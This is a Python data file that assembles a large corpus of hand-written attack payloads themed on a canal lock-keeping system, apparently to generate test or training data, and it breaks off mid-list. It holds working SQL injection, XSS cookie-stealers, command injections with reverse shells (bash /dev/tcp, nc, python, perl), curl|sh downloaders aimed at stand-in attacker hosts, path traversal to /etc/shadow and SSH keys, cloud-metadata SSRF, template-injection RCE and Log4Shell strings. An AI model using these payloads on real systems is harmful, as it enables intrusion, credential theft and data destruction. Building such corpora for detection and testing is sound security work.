#!/usr/bin/env python3
# -*- coding: utf-8 -*-
"""Attack values for the lockkeeper corpus (canal authority lock-keeping system).
All payloads hand-written for this theme; a few joined to theme prefixes or fully percent-encoded."""
import json
import os
import random

# hand-written attack literals, part 1 (sqli, xss, cmdi, traversal). (class, value)

SQLI = [
    ("union", "Kingfisher' UNION SELECT licence_no, holder_name, null FROM boater_licences--"),
    ("union", "lock 7' union all select username,password_hash,3,4 from staff_users-- -"),
    ("union", "52814 UNION SELECT table_name,NULL FROM information_schema.tables WHERE table_schema=database()#"),
    ("union", "-1 union select 1,group_concat(column_name),3 from information_schema.columns where table_name='volunteers'"),
    ("union", "Heron')) UNION SELECT sort_code, account_no FROM direct_debits--"),
    ("union", "L7' UNION SELECT NULL,@@version,NULL,NULL-- "),
    ("union", "4412-NB' UnIoN/**/SeLeCt/**/email,phone/**/FrOm/**/boaters--"),
    ("union", "0 union distinct select sqlite_version(),name from sqlite_master where type='table'--"),
    ("union", "WO-1183' union select string_agg(usename||':'||passwd, ','),null from pg_shadow--"),
    ("union", "hatton' UNION SELECT banner,NULL FROM v$version WHERE ROWNUM=1--"),
    ("boolean", "Narrowboat 'Kingfisher' OR '1'='1"),
    ("boolean", "' or 2>1 -- booking lookup"),
    ("boolean", "BK-2024-00917' AND 1=1 AND 'lock'='lock"),
    ("boolean", "O'Connor' or 'x'<>'y"),
    ("boolean", "lock 3\" or \"a\"=\"a"),
    ("boolean", "admin'-- "),
    ("boolean", "keeper@canal.example' OR 1=1 LIMIT 1-- -"),
    ("boolean", "4412 or true--"),
    ("boolean", "Drop Anchor II' AND SUBSTRING((SELECT password FROM staff_users WHERE id=1),1,1)='a"),
    ("boolean", "L7' AND ASCII(SUBSTR((SELECT holder_name FROM boater_licences LIMIT 1),1,1))>77--"),
    ("boolean", "pound 12' and (select count(*) from volunteers)>10 and '1'='1"),
    ("boolean", "1) or (1=1"),
    ("boolean", "x' || '1'='1"),
    ("boolean", "WO-1183' AND 'a' LIKE 'a%"),
    ("time", "Kingfisher' AND SLEEP(7)-- "),
    ("time", "lock 7'; SELECT pg_sleep(10);--"),
    ("time", "52814; WAITFOR DELAY '0:0:8'--"),
    ("time", "L4' AND (SELECT 1 FROM (SELECT SLEEP(5))x)-- -"),
    ("time", "1 and if(substr(user(),1,1)='r',sleep(6),0)"),
    ("time", "Heron' OR BENCHMARK(9000000,MD5('lock'))#"),
    ("time", "pound 9'||(SELECT CASE WHEN (1=1) THEN pg_sleep(6) ELSE pg_sleep(0) END)||'"),
    ("time", "ST-2024-0112' and 1=(select 1 from dual where dbms_pipe.receive_message('q',9)=1)--"),
    ("time", "L2' AND 4411=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(300000000/2))))--"),
    ("stacked", "Lock 14 closed'; DROP TABLE stoppage_notices;--"),
    ("stacked", "Boat 'Sleep Easy'); DELETE FROM passage_bookings WHERE 1=1;--"),
    ("stacked", "WO-1190'; UPDATE staff_users SET role='admin' WHERE email='v@attacker.example';--"),
    ("stacked", "4412-NB'; INSERT INTO staff_users(email,role) VALUES('ops@attacker.example','admin');--"),
    ("stacked", "1; EXEC xp_cmdshell 'powershell -c iwr http://203.0.113.7/a.ps1|iex';--"),
    ("stacked", "L7'; COPY (SELECT '') TO PROGRAM 'curl 198.51.100.23/s|sh';--"),
    ("stacked", "Heron'; TRUNCATE water_level_logs; --"),
    ("stacked", "x'; ALTER TABLE boater_licences ADD backdoor text;--"),
    ("error", "L7' AND extractvalue(1,concat(0x7e,(select password from staff_users limit 1)))-- "),
    ("error", "1 AND updatexml(null,concat(0x3a,version()),null)"),
    ("error", "Kingfisher' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects WHERE xtype='U'))--"),
    ("error", "pound' AND 1=CAST((SELECT current_user) AS int)--"),
    ("error", "WO' and (select 1 from(select count(*),concat((select database()),floor(rand(0)*2))a from information_schema.tables group by a)b)--"),
    ("error", "L9' AND 7=ctxsys.drithsx.sn(7,(select user from dual))--"),
    ("oob", "L7'; EXEC master..xp_dirtree '\\\\lk.attacker.example\\x';--"),
    ("oob", "Heron' UNION SELECT LOAD_FILE(CONCAT('\\\\\\\\',(SELECT password FROM staff_users LIMIT 1),'.dns.attacker.example\\\\a'))-- "),
    ("oob", "1 AND (SELECT UTL_INADDR.get_host_address((SELECT user FROM dual)||'.attacker.example') FROM dual) IS NOT NULL"),
    ("file", "0' UNION SELECT '<?php system($_GET[c]); ?>',2 INTO OUTFILE '/var/www/html/levels.php'-- "),
    ("file", "-1 union select load_file('/etc/passwd'),2,3"),
    ("file", "x'; SELECT pg_read_file('/etc/lockkeeper/db.conf');--"),
    ("orderby", "date desc, (select case when (select substr(password,1,1) from staff_users limit 1)='a' then 1 else 1/0 end)"),
    ("orderby", "lock_id,(SELECT SLEEP(4))"),
    ("orderby", "1,IF((SELECT COUNT(*) FROM staff_users)>3,lock_id,date)"),
    ("orderby", "passages ASC; DROP TABLE traffic_counts--"),
    ("obfuscated", "Kingfisher'/*!50000UnIoN*//*!50000SeLeCt*/holder_name,licence_no/**/FrOm/**/boater_licences-- -"),
    ("obfuscated", "L7'%0Aunion%0Aselect%0Apassword,1%0Afrom%0Astaff_users--"),
    ("obfuscated", "L7%2527%2520OR%25201%253D1--"),
    ("obfuscated", "lock 3%27%20oR%20%271%27%3D%271"),
    ("obfuscated", "Heron'/**/or/**/1/**/like/**/1--"),
    ("obfuscated", "1'||(sElEcT(pg_sleep(5)))||'"),
    ("obfuscated", "52814'%09AND%09SLEEP(5)%23"),
    ("obfuscated", "0x4c37' UNION SELECT CHAR(97,100,109,105,110),2--"),
    ("obfuscated", "4412-NB'/**/OR/**/'a'='a"),
    ("obfuscated", "Heron%u0027 UNION SELECT password FROM staff_users--"),
    ("obfuscated", "Heron\uff07 \uff35\uff2e\uff29\uff2f\uff2e \uff33\uff25\uff2c\uff25\uff23\uff34 password FROM staff_users--"),
    ("obfuscated", "L7' or(1)=(1)#"),
    ("second-order", "Lady Ellen'||(SELECT password_hash FROM staff_users WHERE role='admin')||'"),
]
SQLI_PREFIXES = ["Passage for narrowboat Otter", "licence 5510-NB", "pound 12 reading", "INC-3340"]
SQLI_POOL = [
    "' UNION SELECT email,password_hash FROM staff_users--",
    "' AND SLEEP(6)-- -",
    "' OR 'k'='k",
    "'; DROP TABLE passage_bookings;--",
]

XSS = [
    ("script", "Lovely evening at the flight <script>fetch('//attacker.example/c?'+document.cookie)</script>"),
    ("script", "Boat name: <script src=https://attacker.example/k.js></script>"),
    ("script", "</textarea><script>new Image().src='https://203.0.113.9/l?c='+encodeURIComponent(document.cookie)</script>"),
    ("script", "\"><script>alert(document.domain)</script>"),
    ("script", "<ScRiPt>location='//attacker.example/?'+localStorage.getItem('token')</sCrIpT>"),
    ("script", "Stoppage update</title><script>eval(atob('ZmV0Y2goJy8vYXR0YWNrZXIuZXhhbXBsZScp'))</script>"),
    ("script", "<script>document.forms[0].action='https://attacker.example/login'</script>"),
    ("script", "<script/src=//attacker.example/x></script>"),
    ("event", "Heron <img src=x onerror=alert(1)>"),
    ("event", "<img src=nope onerror=\"fetch('https://attacker.example/s',{method:'POST',body:document.cookie})\">"),
    ("event", "<svg onload=alert`lock`>"),
    ("event", "<svg/onload=location.href='//attacker.example/'+document.cookie>"),
    ("event", "<body onload=\"document.location='https://attacker.example/?c='+document.cookie\">"),
    ("event", "Gate leaking again <details open ontoggle=alert(document.cookie)>"),
    ("event", "<input autofocus onfocus=alert(1) value='level check'>"),
    ("event", "<video><source onerror=\"alert(1)\"></video>"),
    ("event", "<audio src=x onerror=confirm(document.domain)>"),
    ("event", "<marquee onstart=alert(1)>Lock 9 open</marquee>"),
    ("event", "<div onmouseover=\"alert('towpath')\" style=\"position:fixed;inset:0\">"),
    ("event", "<select autofocus onfocus=alert(1)>"),
    ("event", "<iframe onload=alert(origin)></iframe>"),
    ("event", "<object data=x onerror=alert(1)>"),
    ("event", "<body onpageshow=alert(1)>"),
    ("event", "<textarea autofocus onfocusin=alert(1)>notes</textarea>"),
    ("event", "<a href=# onclick=\"fetch('//attacker.example/'+document.cookie)\">View stoppage map</a>"),
    ("event", "<x contenteditable onblur=alert(1)>click me"),
    ("event", "<img src=1 oNeRrOr=alert(1)>"),
    ("event", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("event", "<style>@keyframes k{}</style><p style=animation-name:k onanimationstart=alert(1)>"),
    ("attr-break", "\" onmouseover=\"alert(1)"),
    ("attr-break", "Kingfisher' autofocus onfocus='alert(document.cookie)"),
    ("attr-break", "x\" style=\"background:url(javascript:alert(1))"),
    ("attr-break", "57ft\"><img src=x onerror=alert(1)>"),
    ("attr-break", "'><svg onload=alert(1)>"),
    ("js-uri", "javascript:alert(document.cookie)"),
    ("js-uri", "JaVaScRiPt:fetch('//attacker.example/'+document.cookie)"),
    ("js-uri", "<a href=\"javascript:void(location='//attacker.example?'+document.cookie)\">Lock guide</a>"),
    ("js-uri", "java\tscript:alert(1)"),
    ("js-uri", "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">map</a>"),
    ("js-uri", "<iframe src=\"javascript:alert(parent.document.cookie)\"></iframe>"),
    ("js-uri", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
    ("js-uri", "<object data=\"data:text/html,<script>alert(1)</script>\"></object>"),
    ("js-uri", "<form action=javascript:alert(1)><button>Confirm booking</button></form>"),
    ("js-uri", "<embed src=\"javascript:alert(1)\">"),
    ("js-uri", "[lock guide](javascript:alert(document.cookie))"),
    ("js-uri", "![gauge](x\"onerror=\"alert(1))"),
    ("encoded", "&lt;script&gt;alert(1)&lt;/script&gt; (rendered via innerHTML after decode)"),
    ("encoded", "%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E"),
    ("encoded", "%253Cimg%2520src%253Dx%2520onerror%253Dalert(1)%253E"),
    ("encoded", "\\u003cimg src=x onerror=alert(1)\\u003e"),
    ("encoded", "\\x3csvg onload=alert(1)\\x3e"),
    ("encoded", "<img src=x onerror=&#x61;&#x6c;&#x65;&#x72;&#x74;&#x28;&#x31;&#x29;>"),
    ("encoded", "<img src=x onerror=\"&#97lert(document.cookie)\">"),
    ("encoded", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e"),
    ("encoded", "<svg><script>&#x61;lert(1)</script></svg>"),
    ("encoded", "%u003Cscript%u003Ealert(1)%u003C/script%u003E"),
    ("encoded", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
    ("filter-evasion", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("filter-evasion", "<img/src='x'/onerror=alert(1)>"),
    ("filter-evasion", "<svg\nonload\n=\nalert(1)>"),
    ("filter-evasion", "<img src=x onerror=window['al'+'ert'](1)>"),
    ("filter-evasion", "<img src=x onerror=top[atob('YWxlcnQ=')](1)>"),
    ("filter-evasion", "<img src=x onerror=eval(String.fromCharCode(97,108,101,114,116,40,49,41))>"),
    ("filter-evasion", "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>Map</text></a></svg>"),
    ("filter-evasion", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>"),
    ("filter-evasion", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
    ("filter-evasion", "<base href=\"https://attacker.example/\">"),
    ("filter-evasion", "<meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example/login\">"),
    ("filter-evasion", "<link rel=import href=//attacker.example/x.html>"),
    ("dom", "#<img src=x onerror=alert(1)>"),
    ("dom", "lock7?next=javascript:alert(document.domain)"),
    ("dom", "';alert(document.cookie);//"),
    ("dom", "\";fetch('//attacker.example/'+document.cookie);//"),
    ("dom", "</script><script>alert(1)</script>"),
    ("template", "{{constructor.constructor('alert(document.cookie)')()}}"),
    ("template", "<div ng-app ng-csp><input autofocus ng-focus=$event.view.alert(1)></div>"),
]
XSS_PREFIXES = ["Volunteer chat: great shift today", "Towpath report near Bridge 17", "Stoppage note", "Boat name Kestrel"]
XSS_POOL = [
    " <img src=x onerror=alert(document.cookie)>",
    " <svg onload=fetch('//attacker.example/'+document.cookie)>",
    " <script>alert(1)</script>",
]

CMDI = [
    ("separator", "levels_2024-06.csv; cat /etc/passwd"),
    ("separator", "L7; id"),
    ("separator", "pound12.log && curl http://attacker.example/i.sh | sh"),
    ("separator", "report.pdf | nc 203.0.113.40 4444 -e /bin/sh"),
    ("separator", "WO-1183 || wget -qO- http://198.51.100.5/x | bash"),
    ("separator", "counts.csv;uname -a"),
    ("separator", "IMG_0442.jpg; rm -rf /srv/lockkeeper/exports"),
    ("separator", "gauge7 & whoami"),
    ("separator", "L3 & type C:\\Windows\\win.ini"),
    ("separator", "lock5.png && net user keeper P4ss! /add"),
    ("separator", "export.csv | powershell -nop -c \"iex(New-Object Net.WebClient).DownloadString('http://attacker.example/p')\""),
    ("separator", "station2;ping -c 3 203.0.113.12"),
    ("separator", "logger-07\nid"),
    ("separator", "logger-07\r\ncat /etc/shadow"),
    ("separator", "LL-07%0Aid"),
    ("separator", "L9%3Bcat%20/etc/passwd"),
    ("separator", "L9%0a/bin/bash -c 'id > /tmp/x'"),
    ("separator", "WO-1190.pdf; echo c2ggLWkgPiYgL2Rldi90Y3AvMjAzLjAuMTEzLjUvOTAwMSAwPiYx | base64 -d | sh"),
    ("subshell", "Kingfisher $(id)"),
    ("subshell", "lock-$(curl -s http://attacker.example/$(whoami))"),
    ("subshell", "report_`uname -a`.pdf"),
    ("subshell", "`cat /etc/lockkeeper/secrets.env`"),
    ("subshell", "$(sleep 10)"),
    ("subshell", "gauge=$(wget -O- 198.51.100.8/g|sh)"),
    ("subshell", "IMG_$(nslookup $(hostname).attacker.example).jpg"),
    ("subshell", "L7 $(printf '\\x63\\x61\\x74\\x20\\x2f\\x65\\x74\\x63\\x2f\\x70\\x61\\x73\\x73\\x77\\x64'|sh)"),
    ("subshell", "${IFS}id"),
    ("subshell", "boat.png;{cat,/etc/passwd}"),
    ("revshell", "; bash -i >& /dev/tcp/203.0.113.77/9001 0>&1"),
    ("revshell", "L4; python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"198.51.100.14\",443));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'"),
    ("revshell", "levels.csv; rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 203.0.113.50 7777 >/tmp/f"),
    ("revshell", "x | perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));connect(S,sockaddr_in(8080,inet_aton(\"203.0.113.61\")));open(STDIN,\">&S\");open(STDOUT,\">&S\");exec(\"/bin/sh -i\");'"),
    ("revshell", "WO-1201 && php -r '$s=fsockopen(\"198.51.100.99\",1234);exec(\"sh <&3 >&3 2>&3\");'"),
    ("revshell", "; socat exec:'bash -li',pty,stderr tcp:attacker.example:4443"),
    ("revshell", "| powershell -e JABjAD0ATgBlAHcALQBPAGIAagBlAGMAdAAgAE4AZQB0AC4AUwBvAGMAawBlAHQAcwA="),
    ("evasion", "L7;c''at${IFS}/e't'c/pa's'swd"),
    ("evasion", "L7;/???/c?t /???/p?ss??"),
    ("evasion", "gauge;w\\h\\o\\a\\m\\i"),
    ("evasion", "L7;$'\\x69\\x64'"),
    ("evasion", "L7;X=$'cat\\x20/etc/passwd'&&$X"),
    ("evasion", "pound%09%26%26%09id"),
    ("evasion", "L7;{wget,-qO-,attacker.example/r}|sh"),
    ("evasion", "L7;cat$IFS$9/etc/passwd"),
    ("evasion", "a;e\"c\"ho${IFS}pwned>/var/www/html/p.txt"),
    ("evasion", "counts.csv;$(rev<<<'dwssap/cte/ tac')"),
    ("evasion", "L7 & c^m^d /c ty^pe C:\\inetpub\\wwwroot\\web.config"),
    ("evasion", "L7|set /p=<C:\\Windows\\System32\\drivers\\etc\\hosts"),
    ("evasion", "L7;tr '[a-z]' '[A-Z]' < /etc/hostname;/b[i]n/i[d]"),
    ("argument", "--output=/var/www/html/shell.php http://attacker.example/s.txt"),
    ("argument", "-oProxyCommand=sh -c 'curl attacker.example/p|sh' lockhost"),
    ("argument", "levels.tar --checkpoint=1 --checkpoint-action=exec=sh /tmp/x.sh"),
    ("argument", "report.pdf -exec sh -c 'id' \\;"),
    ("argument", "--post-file=/etc/lockkeeper/secrets.env http://attacker.example/"),
    ("argument", "-X /var/www/html/x.php -OQueueDirectory=/tmp ops@attacker.example"),
    ("argument", "IMG_0442.jpg -write /var/www/html/x.php"),
    ("argument", "-e 'system(\"id\")' levels.pl"),
    ("argument", "lock7.png --use-compress-program='sh -c id'"),
    ("argument", "--to=\"|/bin/sh -c 'id > /tmp/pwn'\""),
    ("timing", "L7 && sleep 12"),
    ("timing", "L7|timeout 9 ping -c 9 127.0.0.1"),
    ("timing", "LL-07; ping -n 11 127.0.0.1"),
    ("oob", "L7; nslookup `whoami`.cmd.attacker.example"),
    ("oob", "L7 | curl -d @/etc/passwd https://attacker.example/up"),
    ("oob", "L7 && dig +short $(id -u).attacker.example"),
    ("imagemagick", "push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://attacker.example/x.jpg\"|curl \"198.51.100.3/p|sh)'\npop graphic-context"),
    ("env", "() { :; }; /bin/bash -c 'curl http://attacker.example/ss | sh'"),
]
CMDI_PREFIXES = ["levels_2024-07.csv", "IMG_0450.jpg", "counter CNT-07", "WO-1245.pdf"]
CMDI_POOL = ["; cat /etc/passwd", " && id", " | nc 203.0.113.40 4444 -e /bin/sh", " `id`", " $(curl attacker.example/x|sh)"]

TRAVERSAL = [
    ("dotdot", "../../../../etc/passwd"),
    ("dotdot", "reports/../../../../etc/lockkeeper/db.conf"),
    ("dotdot", "WO-1190.pdf/../../../../../etc/shadow"),
    ("dotdot", "exports/daily/../../../../root/.ssh/id_rsa"),
    ("dotdot", "../../../../proc/self/environ"),
    ("dotdot", "../../../app/config/settings.py"),
    ("dotdot", "..\\..\\..\\..\\Windows\\win.ini"),
    ("dotdot", "IMG_0442.jpg\\..\\..\\..\\inetpub\\wwwroot\\web.config"),
    ("dotdot", "../../.env"),
    ("dotdot", "../../../../var/log/nginx/access.log"),
    ("dotdot", "../../../../../../home/keeper/.bash_history"),
    ("dotdot", "templates/../../../../etc/hosts"),
    ("dotdot", "..//..//..//..//etc//passwd"),
    ("dotdot", "....//....//....//etc/passwd"),
    ("dotdot", "..../..../..../etc/passwd"),
    ("dotdot", "..\\/..\\/..\\/etc/passwd"),
    ("dotdot", "./../.././../.././etc/passwd"),
    ("absolute", "/etc/passwd"),
    ("absolute", "/proc/self/cmdline"),
    ("absolute", "C:\\Windows\\System32\\config\\SAM"),
    ("absolute", "file:///etc/lockkeeper/secrets.env"),
    ("absolute", "\\\\203.0.113.8\\share\\levels.csv"),
    ("absolute", "/var/www/lockkeeper/.git/config"),
    ("nullbyte", "../../../../etc/passwd%00.pdf"),
    ("nullbyte", "../../../etc/shadow\\u0000.jpg"),
    ("nullbyte", "..%2f..%2f..%2fetc%2fpasswd%00.csv"),
    ("encoded", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
    ("encoded", "%2e%2e/%2e%2e/%2e%2e/etc/lockkeeper/db.conf"),
    ("encoded", "..%2F..%2F..%2F..%2Fetc%2Fshadow"),
    ("encoded", "%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
    ("encoded", "..%252f..%252f..%252fvar%252flog%252fauth.log"),
    ("encoded", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
    ("encoded", "..%c0%af..%c0%af..%c0%afetc%c0%afpasswd"),
    ("encoded", "..%e0%80%af..%e0%80%af..%e0%80%afetc/passwd"),
    ("encoded", "%u002e%u002e%u2215%u002e%u002e%u2215etc%u2215passwd"),
    ("encoded", "..%5c..%5c..%5cwindows%5cwin.ini"),
    ("encoded", "..%255c..%255c..%255cboot.ini"),
    ("encoded", "\uff0e\uff0e/\uff0e\uff0e/\uff0e\uff0e/etc/passwd"),
    ("encoded", "..\u2215..\u2215..\u2215etc\u2215passwd"),
    ("encoded", "%2e%2e%5c%2e%2e%5c%2e%2e%5cWindows%5csystem.ini"),
    ("wrapper", "php://filter/convert.base64-encode/resource=../config/database.php"),
    ("wrapper", "php://filter/read=string.rot13/resource=index.php"),
    ("wrapper", "zip://uploads/IMG_0442.jpg#shell.php"),
    ("wrapper", "phar://uploads/counts.csv/payload"),
    ("wrapper", "expect://id"),
]
TRAVERSAL_URLENCODE = [
    "../../../../etc/passwd",
    "../../../etc/lockkeeper/secrets.env",
    "..\\..\\..\\Windows\\win.ini",
    "reports/../../../../proc/self/environ",
    "../../../../root/.ssh/authorized_keys",
]
SQLI_URLENCODE = [
    "L7' OR '1'='1'-- ",
    "Heron' UNION SELECT password_hash,email FROM staff_users--",
    "52814' AND SLEEP(5)#",
]

# hand-written attack literals, part 2 (ssrf, code, nosqli, crlf, ldap-xpath). (class, value)

SSRF = [
    ("metadata", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("metadata", "http://169.254.169.254/latest/user-data"),
    ("metadata", "http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token"),
    ("metadata", "http://metadata.google.internal/computeMetadata/v1/project/attributes/ssh-keys?alt=text"),
    ("metadata", "http://169.254.169.254/metadata/instance?api-version=2021-02-01"),
    ("metadata", "http://100.100.100.200/latest/meta-data/ram/security-credentials/"),
    ("metadata", "http://[fd00:ec2::254]/latest/meta-data/"),
    ("metadata", "http://169.254.170.2/v2/credentials/"),
    ("loopback", "http://127.0.0.1:8080/admin/users"),
    ("loopback", "http://localhost:6379/"),
    ("loopback", "http://127.0.0.1:9200/_cat/indices"),
    ("loopback", "http://localhost/server-status"),
    ("loopback", "http://127.0.0.1:2375/containers/json"),
    ("loopback", "http://[::1]:8500/v1/agent/self"),
    ("loopback", "http://0.0.0.0:5984/_all_dbs"),
    ("loopback", "http://127.1/admin"),
    ("loopback", "http://localhost:15672/api/users"),
    ("internal", "http://10.0.0.12:8080/manager/html"),
    ("internal", "http://192.168.1.1/cgi-bin/luci"),
    ("internal", "http://172.16.5.20:8161/admin/"),
    ("internal", "http://levels-db.internal:5432/"),
    ("internal", "http://scada-gateway.lock.local/api/sluice/open?gate=all"),
    ("internal", "https://kubernetes.default.svc/api/v1/namespaces/default/secrets"),
    ("internal", "http://vault.service.consul:8200/v1/secret/data/lockkeeper"),
    ("internal", "http://10.10.0.5:10250/pods"),
    ("alt-ip", "http://2130706433/admin"),
    ("alt-ip", "http://0x7f000001:8080/"),
    ("alt-ip", "http://017700000001/"),
    ("alt-ip", "http://0251.0376.0251.0376/latest/meta-data/"),
    ("alt-ip", "http://0xA9FEA9FE/latest/meta-data/"),
    ("alt-ip", "http://2852039166/latest/meta-data/iam/"),
    ("alt-ip", "http://[::ffff:169.254.169.254]/latest/meta-data/"),
    ("alt-ip", "http://[0:0:0:0:0:ffff:127.0.0.1]:8080/"),
    ("alt-ip", "http://127.000.000.001/admin"),
    ("alt-ip", "http://\u2460\u2461\u2466.\u24ea.\u24ea.\u2460/admin"),
    ("parser", "https://bookings.example.org@127.0.0.1:8080/admin"),
    ("parser", "http://attacker.example#@169.254.169.254/latest/meta-data/"),
    ("parser", "http://169.254.169.254%23@bookings.example.org/"),
    ("parser", "http://127.0.0.1:80\\@attacker.example/"),
    ("redirect", "https://attacker.example/redirect?to=http://169.254.169.254/latest/meta-data/"),
    ("redirect", "http://203.0.113.30/302.php?u=http%3A%2F%2F127.0.0.1%3A8080%2Fadmin"),
    ("dns-rebind", "http://7f000001.a9fea9fe.rbndr.attacker.example/latest/meta-data/"),
    ("dns-rebind", "http://127.0.0.1.nip.attacker.example:8080/admin"),
    ("scheme", "gopher://127.0.0.1:6379/_SET%20pwn%20%22%5Cn*%2F1%20*%20*%20*%20*%20curl%20attacker.example%2Fx%7Csh%5Cn%22%0D%0ASAVE%0D%0A"),
    ("scheme", "gopher://localhost:25/_HELO%20x%0D%0AMAIL%20FROM%3A%3Cops%40attacker.example%3E%0D%0A"),
    ("scheme", "dict://127.0.0.1:11211/stats"),
    ("scheme", "file:///etc/passwd"),
    ("scheme", "ftp://10.0.0.7/exports/traffic.csv"),
    ("scheme", "ldap://127.0.0.1:389/dc=canal,dc=local"),
    ("scheme", "tftp://198.51.100.20/lockkeeper.conf"),
]

CODE = [
    # SSTI
    ("ssti-jinja", "Hi {{ boater_name }}, {{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}"),
    ("ssti-jinja", "{{ cycler.__init__.__globals__.os.popen('curl attacker.example/j|sh').read() }}"),
    ("ssti-jinja", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    ("ssti-jinja", "{{ config.items() }}"),
    ("ssti-jinja", "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='Popen' %}{{ c('id',shell=True,stdout=-1).communicate() }}{% endif %}{% endfor %}"),
    ("ssti-jinja", "{{ request.application.__globals__.__builtins__.open('/etc/passwd').read() }}"),
    ("ssti-jinja", "{{ lipsum.__globals__['os'].popen('cat /etc/lockkeeper/secrets.env').read() }}"),
    ("ssti-jinja", "{{ joiner.__init__.__globals__['__builtins__']['eval'](\"__import__('os').system('id')\") }}"),
    ("ssti-jinja", "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f') }}"),
    ("ssti-jinja", "{{ 7*'7' }}{{ get_flashed_messages.__globals__.current_app.config }}"),
    ("ssti-twig", "{{ ['id']|filter('system') }}"),
    ("ssti-twig", "{{ _self.env.registerUndefinedFilterCallback('exec') }}{{ _self.env.getFilter('id') }}"),
    ("ssti-twig", "{{ ['curl attacker.example/t|sh']|map('passthru')|join }}"),
    ("ssti-freemarker", "<#assign ex='freemarker.template.utility.Execute'?new()>${ ex('id') }"),
    ("ssti-freemarker", "${'freemarker.template.utility.ObjectConstructor'?new()('java.lang.ProcessBuilder',['sh','-c','id']).start()}"),
    ("ssti-velocity", "#set($rt=$class.inspect('java.lang.Runtime').type.getRuntime())$rt.exec('id')"),
    ("ssti-erb", "Stoppage for <%= lock_name %> <%= `cat /etc/passwd` %>"),
    ("ssti-erb", "<%= system('curl attacker.example/e | sh') %>"),
    ("ssti-erb", "<%= File.read('/etc/lockkeeper/db.yml') %>"),
    ("ssti-smarty", "{system('id')}"),
    ("ssti-smarty", "{php}passthru('id');{/php}"),
    ("ssti-handlebars", "{{#with (lookup this 'constructor')}}{{#with (lookup this 'constructor')}}{{this 'return process.mainModule.require(\"child_process\").execSync(\"id\")'}}{{/with}}{{/with}}"),
    ("ssti-pug", "#{global.process.mainModule.require('child_process').execSync('id')}"),
    ("ssti-ejs", "<%- global.process.mainModule.require('child_process').execSync('cat /etc/passwd') %>"),
    ("ssti-mako", "${ __import__('os').popen('id').read() }"),
    ("ssti-tornado", "{% import os %}{{ os.popen('whoami').read() }}"),
    ("ssti-razor", "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami > C:\\\\inetpub\\\\wwwroot\\\\w.txt\")"),
    ("ssti-go", "{{ .Env.DB_PASSWORD }}{{ call .System \"id\" }}"),
    # expression languages
    ("el-spring", "${T(java.lang.Runtime).getRuntime().exec('curl attacker.example/s')}"),
    ("el-spring", "#{T(java.lang.Runtime).getRuntime().exec(new String[]{'sh','-c','id'})}"),
    ("el-spring", "*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}"),
    ("el-spring", "${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec('cat /etc/passwd').getInputStream()).useDelimiter('\\\\A').next()}"),
    ("el-ognl", "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}"),
    ("el-ognl", "${(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}"),
    ("el-jsp", "${pageContext.request.getSession().setAttribute('role','admin')}"),
    ("el-jsp", "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}"),
    ("el-mvel", "Runtime.getRuntime().exec(\"id\");"),
    # eval / code
    ("eval-js", "require('child_process').exec('curl attacker.example/n|sh')"),
    ("eval-js", "process.mainModule.require('fs').readFileSync('/etc/passwd','utf8')"),
    ("eval-js", "');require('child_process').execSync('id');//"),
    ("eval-js", "this.constructor.constructor('return process')().env"),
    ("eval-php", "<?php system($_GET['c']); ?>"),
    ("eval-php", "<?= `id` ?>"),
    ("eval-php", "${@eval($_POST['x'])}"),
    ("eval-php", "'.system('id').'"),
    ("eval-python", "__import__('os').system('curl attacker.example/p|sh')"),
    ("eval-python", "1.2; __import__('subprocess').check_output(['cat','/etc/passwd'])"),
    ("eval-python", "[c for c in ().__class__.__bases__[0].__subclasses__() if c.__name__=='catch_warnings'][0]()._module.__builtins__['__import__']('os').system('id')"),
    ("eval-ruby", "#{`id`}"),
    # Log4Shell
    ("log4shell", "${jndi:ldap://attacker.example:1389/lk}"),
    ("log4shell", "Boat 'Heron' ${jndi:rmi://203.0.113.55/Exploit}"),
    ("log4shell", "${${lower:j}${lower:n}${lower:d}i:${lower:l}dap://198.51.100.9/a}"),
    ("log4shell", "${${::-j}${::-n}${::-d}${::-i}:${::-d}${::-n}${::-s}://x.attacker.example/q}"),
    ("log4shell", "${jndi:dns://${env:DB_PASSWORD}.leak.attacker.example}"),
    ("log4shell", "${j${upper:n}di:ldaps://attacker.example/o}"),
    ("log4shell", "${jn${env:NOPE:-d}i:ldap://203.0.113.88/x}"),
    # prototype pollution
    ("proto-pollution", "{\"__proto__\": {\"isAdmin\": true}}"),
